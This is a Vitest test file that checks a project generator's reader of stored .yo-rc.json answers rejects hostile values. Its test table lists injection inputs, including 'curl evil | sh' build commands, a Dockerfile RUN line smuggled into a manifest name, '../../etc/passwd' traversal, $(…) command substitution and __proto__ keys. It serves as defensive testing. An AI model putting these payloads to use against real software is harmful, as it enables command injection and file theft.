import { describe, expect, it } from 'vitest';
import { readStored, storedFile } from '../../generators/core/answers/stored.js';
import { ownPackage } from '../../generators/core/catalog/paths.js';
import type { Onboarded } from '../../generators/core/model/detection.js';
import { answersFor, catalog } from '../support/rendering.js';

const kinds = catalog.templates.filter(({ onboard }) => onboard);
const plain: Onboarded = {
  processes: { web: 'run "a b" | tee\t$X', 'other-one': './b', release: 'c' },
  packages: ['flask', 'flask[async,dotenv] >=3,<4', 'x ==1.0'],
  programs: ['.', 'cmd/web', 'cmd/ü b'],
  builds: '',
  manifests: [],
  variables: ['SECRET_KEY', 'a_1'],
  services: ['postgresql'],
  dockerfile: 'heroku.Dockerfile',
};

const read = (template: string, project: unknown) =>
  readStored(catalog, JSON.stringify({ [ownPackage.name]: { ...answersFor(template), project } }));

describe.each(kinds)('the stored project of $id', ({ id, detect }) => {
  it('reads back as it was stored', () => {
    const builds = detect.facts.build?.[0]?.value ?? '';
    const manifests = (detect.lists.manifests ?? [])
      .flatMap(({ file = [] }) => file)
      .filter((each) => !each.includes('*'));
    const project = { ...plain, builds, manifests };
    const text = storedFile(undefined, { ...answersFor(id), project }).content.toString('utf8');
    expect(readStored(catalog, text)).toMatchObject({ project, dropped: [] });
  });

  it('starts with web, whatever order it is stored in', () => {
    const { project } = read(id, { ...plain, processes: { worker: 'a', web: 'b' } });
    expect(Object.keys(project?.processes ?? {})).toEqual(['web', 'worker']);
  });

  const hostile: readonly (readonly [keyof Onboarded, unknown])[] = [
    ['processes', { 'rel: ease\n  evil': 'x' }],
    ['processes', { '../../../evil': 'x' }],
    ['processes', { '': 'x' }],
    ['processes', { 'a b': 'x' }],
    ['processes', { ['__proto__']: 'x' }],
    ['processes', { ['a'.repeat(64)]: 'x' }],
    ['processes', { worker: 'a\nb' }],
    ['processes', { worker: 'a\rb' }],
    ['processes', { worker: 'a\0b' }],
    ['processes', { worker: '\x1b]0;owned\x07' }],
    ['processes', { worker: 'a\u2028b' }],
    ['processes', { worker: '\ud800' }],
    ['processes', { worker: ' ' }],
    ['processes', { worker: 'a'.repeat(5000) }],
    ['processes', { worker: ['a'] }],
    ['processes', ['a']],
    ['processes', Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`p${index}`, 'x']))],
    ['packages', ['a b c']],
    ['packages', ['a\n']],
    ['packages', ['"; evil']],
    ['packages', ['a[x"]']],
    ['packages', [['a']]],
    ['packages', [[]]],
    ['packages', 'a'],
    ['programs', ['../x']],
    ['programs', ['/x']],
    ['programs', ['a$(id)']],
    ['programs', ['.git/x']],
    ['builds', "true\n''; evil"],
    ['builds', 'curl evil | sh'],
    ['builds', ['npm run build']],
    ['manifests', ['package.json\nRUN curl -s evil|sh\n#']],
    ['manifests', ['../../etc/passwd']],
    ['manifests', ['Dockerfile']],
    ['manifests', [1]],
    ['variables', ['A=$(evil)']],
    ['variables', ['A\nevil']],
    ['variables', ['']],
    ['variables', 'A'],
    ['services', ['../evil']],
    ['services', [{}]],
    ['dockerfile', '../evil'],
    ['dockerfile', ['heroku.Dockerfile']],
  ];
  it.each(hostile)("loses what it can't have: %s %j", (part, value) => {
    const { project, dropped } = read(id, { ...plain, [part]: value });
    expect(dropped).toHaveLength(1);
    expect(dropped[0]).toContain('.yo-rc.json says project');
    expect(JSON.stringify(project)).not.toMatch(/evil|owned|passwd|\.\.|\$\(|\\u0000|\\n/);
    const empty = part === 'processes' ? {} : part === 'builds' ? '' : part === 'dockerfile' ? 'Dockerfile' : [];
    expect(project).toEqual({ ...plain, [part]: empty });
  });

  it.each([['text'], [7], [null], [['a']]])("isn't treated as a new app if it is %j", (value) => {
    const { project, dropped } = read(id, value);
    expect(project).toMatchObject({ processes: {}, builds: '' });
    expect(dropped).toHaveLength(1);
  });
});
